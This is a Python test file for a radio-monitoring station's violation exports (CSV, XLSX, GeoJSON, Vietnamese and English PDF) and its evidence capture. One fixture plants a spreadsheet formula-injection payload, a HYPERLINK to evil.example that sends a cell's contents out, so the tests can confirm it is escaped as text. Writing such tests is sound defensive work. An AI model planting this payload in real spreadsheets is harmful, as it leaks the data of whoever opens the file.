"""Exports opened back: CSV parsed, XLSX with openpyxl, GeoJSON validated (RFC 7946 structure), PDF text
extracted with pypdf showing the Vietnamese labels intact; formula injection; empty exports; evidence."""

from __future__ import annotations

import csv
import json
import pkgutil
import unicodedata
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from pathlib import Path

import numpy as np
import pytest

import station.compliance.exports
from station.compliance.checker import ComplianceChecker
from dsp.spectrum import Spectrum
from station.compliance.cases import CaseStore, sha256_of
from station.errors import UsageError
from station.compliance.evidence import capture_evidence
from station.compliance.exports import REGISTRY, export_cases, exporter
from station.compliance.exports._common import COLUMNS, LABELS
from station.compliance.register import builtin_path, load_exempt_bands_strict, load_register
from station.outputs.vocabulary import MEASUREMENTS
from tests.test_cases import sweep
from tests.test_compliance import HANOI, em

T0 = datetime(2026, 11, 29, 12, 0, tzinfo=timezone.utc)
NOW = datetime(2026, 11, 30, 8, 0, tzinfo=timezone.utc)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def checker():
    reg = load_register(builtin_path("demo_register.csv"))
    return ComplianceChecker(reg.assignments, load_exempt_bands_strict(), HANOI, 30_000.0, 1.0)


@pytest.fixture
def store(tmp_path, checker):
    s = CaseStore(tmp_path / "data" / "specmon.db")
    for k in range(3):
        when = T0 + timedelta(seconds=30 * k)
        s.record(sweep(checker, when), station="hn-01", when=when, position=HANOI, settings={"rbw_hz": 1000.0})
    # a second station sees the pirate; a licensee name that tries formula injection
    pirate = checker.check([em(106.9e6, 180e3)], T0)[0]
    s.record([replace(pirate, track_id="trk-fm-pirate")], station="hn-02", when=T0 + timedelta(minutes=5),
             position=(21.05, 105.80))
    evil = checker.check([em(147.25e6, 11e3)], T0)[0]
    evil = replace(evil, licences=(EVIL,), reason="-2+3 " + evil.reason, reason_args=None)  # stored text kept
    s.record([replace(evil, emission=replace(evil.emission, center_hz=171.1e6, f_lo_hz=171.0945e6,
                                             f_hi_hz=171.1055e6))], station="hn-01", when=T0, position=HANOI)
    s.confirm("VC-000001", note="Đã xác nhận tại hiện trường", author="Lan")
    return s


def test_every_export_module_is_registered():
    modules = {m.name for m in pkgutil.iter_modules(station.compliance.exports.__path__) if not m.name.startswith("_")}
    assert modules == {target.rsplit(".", 1)[1] for target in REGISTRY.values()}
    for fmt in REGISTRY:
        mod = exporter(fmt)
        assert mod.EXTENSION == {"bundle": ".zip"}.get(fmt, "." + fmt) and callable(mod.write)
    with pytest.raises(UsageError, match="unknown export format 'docx'; known: csv, xlsx, geojson, pdf, bundle"):
        exporter("docx")


def test_column_names_follow_the_vocabulary():
    violation = MEASUREMENTS["violation"].fields
    shared = [c for c in COLUMNS if c.name in violation]
    assert {c.name for c in shared} >= {"case_id", "state", "center_hz", "bandwidth_hz", "snr_db", "licence",
                                        "reason", "indicative", "track_id"}
    for c in shared:
        assert c.unit == violation[c.name].unit, c.name
    for c in COLUMNS:
        assert c.name in LABELS or c.name in ("licensee",), c.name


def test_csv_parses_back_and_is_injection_safe(store, tmp_path):
    (path,) = export_cases(store, ["csv"], tmp_path / "out", now=NOW, mark_exported=False)
    assert path.name == "violations-20261130T080000Z.csv"
    with open(path, newline="", encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert [r["case_id"] for r in rows] == [f"VC-{i:06d}" for i in range(1, 9)]
    pirate = rows[0]
    assert pirate["class"] == "unlicensed" and pirate["state"] == "confirmed"
    assert float(pirate["center_hz"]) == 106.9e6 and int(pirate["n_obs"]) == 4
    assert pirate["stations"] == "hn-01,hn-02"
    assert float(pirate["latitude"]) == 21.0285 and float(pirate["longitude"]) == 105.8542
    evil = rows[-1]
    assert evil["licence"] == "'" + EVIL  # stays text in a spreadsheet
    assert evil["reason"].startswith("'-2+3 ")
    assert float(evil["max_power_dbfs"]) == -40.0  # numbers are not prefixed


def test_xlsx_opens_with_openpyxl(store, tmp_path):
    from openpyxl import load_workbook

    (path,) = export_cases(store, ["xlsx"], tmp_path / "out", lang="vi", now=NOW, mark_exported=False)
    wb = load_workbook(path)
    assert wb.sheetnames == ["vụ việc", "giấy phép", "thông tin"]
    ws = wb["vụ việc"]
    header = [c.value for c in ws[1]]
    assert header[:3] == ["Mã vụ việc", "Phân loại", "Trạng thái"]
    assert ws.max_row == 9
    assert ws.cell(2, 1).value == "VC-000001" and ws.cell(2, 2).value == "không có giấy phép"
    assert ws.cell(2, 4).value == datetime(2026, 11, 29, 12, 0)
    assert ws.cell(2, 7).value == 106.9e6
    licence_col = [c.name for c in COLUMNS].index("licence") + 1
    cell = ws.cell(9, licence_col)
    assert cell.data_type == "s" and cell.value == "'" + EVIL
    for row in ws.iter_rows(min_row=2):
        for c in row:
            assert c.data_type != "f", f"formula in {c.coordinate}"
    about = wb["thông tin"]
    assert about.cell(5, 2).value == 8
    reg = wb["giấy phép"]
    rows = [[c.value for c in r] for r in reg.iter_rows(min_row=2)]
    off = next(r for r in rows if r[1] == "LM-PORT-453037")
    assert off[0] == "VC-000005" and off[5] == 453.0375 and off[8] == "11K0F3E"
    from openpyxl.utils import get_column_letter

    assert ws.auto_filter.ref == f"A1:{get_column_letter(len(COLUMNS))}9"


def _validate_geojson(doc: dict) -> None:
    """RFC 7946 structure: FeatureCollection of Features; Point/MultiPoint with [lon, lat] in range."""
    assert doc["type"] == "FeatureCollection" and isinstance(doc["features"], list)
    for f in doc["features"]:
        assert f["type"] == "Feature" and isinstance(f["properties"], dict)
        g = f["geometry"]
        if g is None:
            continue
        pts = [g["coordinates"]] if g["type"] == "Point" else g["coordinates"]
        assert g["type"] in ("Point", "MultiPoint") and pts
        for lon, lat in pts:
            assert -180 <= lon <= 180 and -90 <= lat <= 90


def test_geojson_at_station_positions(store, tmp_path):
    (path,) = export_cases(store, ["geojson"], tmp_path / "out", now=NOW, mark_exported=False)
    doc = json.loads(path.read_text(encoding="utf-8"))
    _validate_geojson(doc)
    feats = {f["id"]: f for f in doc["features"]}
    assert len(feats) == 8
    assert feats["VC-000001"]["geometry"] == {"type": "MultiPoint", "coordinates": [[105.8542, 21.0285], [105.8, 21.05]]}
    assert feats["VC-000002"]["geometry"] == {"type": "Point", "coordinates": [105.8542, 21.0285]}
    assert feats["VC-000001"]["properties"]["class"] == "unlicensed"
    assert feats["VC-000001"]["properties"]["center_hz"] == 106.9e6


def _pdf_text(path: Path) -> list[str]:
    from pypdf import PdfReader

    return [unicodedata.normalize("NFC", p.extract_text()) for p in PdfReader(str(path)).pages]


def test_pdf_in_vietnamese_keeps_diacritics(store, tmp_path):
    (path,) = export_cases(store, ["pdf"], tmp_path / "out", lang="vi", now=NOW, mark_exported=False)
    pages = _pdf_text(path)
    assert len(pages) == 1 + 8
    assert "Báo cáo vi phạm giám sát tần số vô tuyến điện" in pages[0]
    assert "Vụ việc theo phân loại" in pages[0] and "không có giấy phép 4" in pages[0]
    case = next(p for p in pages[1:] if "VC-000005" in p)
    for text in ("sai tần số", "Tần số trung tâm", "453.043500 MHz", "Tra cứu cơ sở dữ liệu giấy phép",
                 "LM-PORT-453037", "Hanoi Inland Port Logistics JSC", "Trạm giám sát", "hn-01", "21.02850",
                 "Phát hiện lần đầu (UTC)", "2026-11-29 12:00:00", "Lý do"):
        assert text in case, text
    assert "Đã xác nhận tại hiện trường" in pages[1]
    assert "Trang 1/9" in pages[0]
    from pypdf import PdfReader

    fonts = {str(f) for p in PdfReader(str(path)).pages for f in p["/Resources"]["/Font"].values()}
    assert fonts  # embedded font objects exist


def test_pdf_in_english(store, tmp_path):
    (path,) = export_cases(store, ["pdf"], tmp_path / "out", lang="en", now=NOW, mark_exported=False)
    pages = _pdf_text(path)
    assert "Radio monitoring violation report" in pages[0] and "off frequency 1" in pages[0]
    assert "Register lookup" in pages[5] or any("Register lookup" in p for p in pages[1:])


@pytest.mark.parametrize("fmt", sorted(set(REGISTRY) - {"bundle"}))  # bundles: one per case, none for none
def test_empty_export_is_a_valid_report(tmp_path, fmt):
    empty = CaseStore(tmp_path / "empty.db")
    (path,) = export_cases(empty, [fmt], tmp_path / "out", lang="vi", now=NOW)
    if fmt == "csv":
        with open(path, newline="", encoding="utf-8-sig") as f:
            rows = list(csv.reader(f))
        assert rows == [[c.name for c in COLUMNS]]
    elif fmt == "xlsx":
        from openpyxl import load_workbook

        wb = load_workbook(path)
        cases, register, about = wb.worksheets
        assert cases.max_row == 1 and about.cell(5, 2).value == 0 and register.max_row == 1
    elif fmt == "geojson":
        doc = json.loads(path.read_text())
        _validate_geojson(doc)
        assert doc["features"] == []
    else:
        pages = _pdf_text(path)
        assert len(pages) == 1 and "Không có vụ việc vi phạm nào phù hợp với bộ lọc." in pages[0]


def test_filters_and_marking_exported(store, tmp_path):
    paths = export_cases(store, ["csv", "geojson"], tmp_path / "out", states=["confirmed"], now=NOW)
    with open(paths[0], newline="", encoding="utf-8-sig") as f:
        assert [r["case_id"] for r in csv.DictReader(f)] == ["VC-000001"]
    assert [c.case_id for c in store.cases(state="exported")] == ["VC-000001"]
    assert store.cases(state="new") and all(c.state != "confirmed" for c in store.cases())
    late = export_cases(store, ["csv"], tmp_path / "out2", since=T0 + timedelta(minutes=2), now=NOW,
                        mark_exported=False)
    with open(late[0], newline="", encoding="utf-8-sig") as f:
        assert [r["case_id"] for r in csv.DictReader(f)] == ["VC-000001"]  # the only case seen after 12:02 (hn-02 at 12:05)
    with pytest.raises(UsageError, match="--lang 'fr' is not supported"):
        export_cases(store, ["pdf"], tmp_path / "out3", lang="fr")
    with pytest.raises(UsageError, match="unknown export format"):
        export_cases(store, ["csv", "doc"], tmp_path / "out4")
    assert not (tmp_path / "out4").exists()  # nothing written when a format name is wrong


# ---- evidence ----------------------------------------------------------------------------------------------
def _spectrum(center_hz: float, bw_hz: float) -> Spectrum:
    f = np.arange(center_hz - 1e6, center_hz + 1e6, 1000.0) + 500.0
    psd = -130.0 + np.random.default_rng(1).normal(0, 1, f.size)
    psd[np.abs(f - center_hz) < bw_hz / 2] = -95.0
    return Spectrum(freqs_hz=f, psd_dbfs_hz=psd, bin_hz=1000.0, enbw_hz=1500.0, nfft=2400, window="hann",
                    overlap=0.5, average="mean", n_frames=10, sample_rate_hz=2.4e6, start_utc=T0, end_utc=T0,
                    hop_centers_hz=np.array([center_hz]), hop_edges_hz=np.array([[f[0], f[-1]]]), dwell_s=0.04,
                    source="sim://city")


def test_evidence_capture_and_pdf_page(tmp_path, checker):
    from station.receivers import open_receiver
    from station.formats.sigmf import read_meta

    store = CaseStore(tmp_path / "specmon.db")
    (obs,) = store.record(checker.check([em(453.0435e6, 11e3)], T0), station="hn-01", when=T0, position=HANOI)
    rx = open_receiver("sim://city")
    rx.set_sample_rate(2.4e6)
    rx.set_center_freq(150e6)
    from station.compliance.evidence import EvidenceSettings

    cap = capture_evidence(store, obs.case_id, obs.result, out_dir=tmp_path / "evidence", station_id="hn-01",
                           position=HANOI, spectrum=_spectrum(453.0435e6, 11e3), receiver=rx,
                           nearby=checker.assignments_near(452.9e6, 453.2e6), measurement={"gain_db": 30.0},
                           settings=EvidenceSettings(iq_duration_s=0.02), when=T0)
    assert cap.problems == ()
    assert [f.kind for f in cap.files] == ["spectrum_png", "spectrum_data", "iq_sigmf_meta", "iq_sigmf_data", "manifest"]
    assert rx.center_freq_hz == 150e6  # the receiver is given back as it was
    for f in cap.files:
        assert sha256_of(store.evidence_path(f)) == f.sha256
    assert store.verify_evidence(obs.case_id) == []
    rec = read_meta(cap.directory / "iq.sigmf-meta", verify_sha512=True)
    assert rec.datatype == "cu8" and rec.sample_rate_hz == 2.4e6 and rec.n_samples == 48_000
    assert rec.center_freq_hz == pytest.approx(453.0435e6 - 600e3)  # offset off the DC spike
    (ann,) = rec.annotations
    assert (ann.freq_lower_edge_hz, ann.freq_upper_edge_hz, ann.label) == (453.038e6, 453.049e6, "off_frequency")
    assert rec.geolocation.lat_deg == 21.0285
    manifest = json.loads((cap.directory / "manifest.json").read_text())
    assert manifest["station"] == "hn-01" and manifest["time_utc"] == "2026-11-29T12:00:00Z"
    assert manifest["position"] == {"latitude": 21.0285, "longitude": 105.8542}
    assert manifest["measurement"]["rbw_hz"] == 1500.0 and manifest["measurement"]["gain_db"] == 30.0
    assert manifest["receiver"]["uri"] == "sim://city"
    assert {f["name"] for f in manifest["files"]} == {"spectrum.png", "spectrum.npz", "iq.sigmf-meta", "iq.sigmf-data"}
    assert (cap.directory / "spectrum.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    # the PDF page of the case embeds the snapshot
    (pdf,) = export_cases(store, ["pdf"], tmp_path / "out", now=NOW)
    from pypdf import PdfReader

    reader = PdfReader(str(pdf))
    assert len(reader.pages) == 2  # the summary, then the case with its evidence on one page
    assert len(reader.pages[1].images) == 1
    text = "".join(p.extract_text() for p in reader.pages[1:]).replace("\n", "")
    assert "iq.sigmf-data" in text and manifest["files"][3]["sha256"] in text


def test_evidence_problems_do_not_stop_capture(tmp_path, checker):
    store = CaseStore(tmp_path / "specmon.db")
    (obs,) = store.record(checker.check([em(462.8e6, 7.6e3)], T0), station="hn-01", when=T0)

    class Broken:
        center_freq_hz, sample_rate_hz, gain_db, ppm = 100e6, 2.4e6, None, 0

        def set_center_freq(self, f):
            from station.errors import ReceiverUnavailable

            raise ReceiverUnavailable("dongle unplugged", where="rtlsdr://0")

        info = None

    cap = capture_evidence(store, obs.case_id, obs.result, out_dir=tmp_path / "ev", station_id="hn-01",
                           position=None, spectrum=_spectrum(150e6, 11e3), receiver=Broken(), when=T0)
    assert cap.problems == (
        "spectrum snapshot: the spectrum covers 149.000000-151.000000 MHz, not the emission at 462.800000 MHz",
        "IQ recording: rtlsdr://0: dongle unplugged",
    )
    assert [f.kind for f in cap.files] == ["manifest"]
    again = capture_evidence(store, obs.case_id, obs.result, out_dir=tmp_path / "ev", station_id="hn-01",
                             position=None, when=T0)
    assert again.directory == cap.directory / "capture-2"  # the first capture is never overwritten
    assert store.verify_evidence(obs.case_id) == []


def test_pdf_font_and_its_licence_ship_with_matplotlib():
    from station.compliance.exports.pdf import font_paths

    regular, bold = font_paths()
    assert regular.is_file() and bold.is_file()
    assert "Bitstream" in (regular.parent / "LICENSE_DEJAVU").read_text(errors="replace")
    doc = (Path(__file__).resolve().parent.parent / "docs" / "VIOLATIONS.md").read_text()
    assert "LICENSE_DEJAVU" in doc and "DejaVu Sans" in doc
